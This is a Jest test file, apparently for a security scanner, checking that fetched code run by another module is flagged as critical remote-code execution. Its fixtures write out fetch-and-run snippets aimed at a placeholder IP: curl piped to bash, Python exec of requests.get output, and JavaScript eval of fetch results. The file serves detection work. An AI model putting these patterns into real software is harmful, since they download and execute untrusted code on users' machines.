import { expect, test } from '@jest/globals';
import { reviewed } from './testing/reviewed.js';

const URL = 'http://203.0.113.9/x';
const FOUND = 'CRITICAL fetch-execute/remote-code';

test.each<[string, Record<string, string>]>([
  [
    'a function of a shell library',
    { 'lib.sh': `get() { curl -s ${URL}; }\n`, 'run.sh': '. ./lib.sh\nget | bash\n' },
  ],
  [
    'a function of a Python module',
    {
      'net.py': `import requests\ndef get():\n    return requests.get("${URL}").text\n`,
      'run.py': 'from net import get\nexec(get())\n',
    },
  ],
  [
    'a value of a module in the same package',
    {
      'pkg/net.py': `import requests\ntext = requests.get("${URL}").text\n`,
      'pkg/run.py': 'from . import net\nexec(net.text)\n',
    },
  ],
  [
    'a module that hands on what another one fetches',
    {
      'net.py': `import requests\ndef get():\n    return requests.get("${URL}").text\n`,
      'more.py': 'import net\ndef load():\n    return net.get()\n',
      'run.py': 'import more\nexec(more.load())\n',
    },
  ],
  [
    'what CommonJS exports',
    {
      'b.js': `module.exports = { get: () => fetch("${URL}").then((r) => r.text()) };\n`,
      'a.js': "require('./b').get().then(eval);\n",
    },
  ],
  [
    'what ECMAScript exports',
    {
      'lib/b.mjs': `export default async () => (await fetch("${URL}")).text();\n`,
      'a.mjs': "import get from './lib/b.mjs';\neval(await get());\n",
    },
  ],
])('%s flows into the program that loads it', async (_name, files) => {
  expect(await reviewed(files)).toContain(FOUND);
});

test('a function of the same name in a program that loads nothing is another one', async () => {
  const files = {
    'lib.sh': `get() { curl -s ${URL}; }\n`,
    'run.sh': 'get() { echo true; }\nget | bash\n',
    'other.sh': 'get | bash\n',
  };
  expect(await reviewed(files)).not.toContain(FOUND);
});
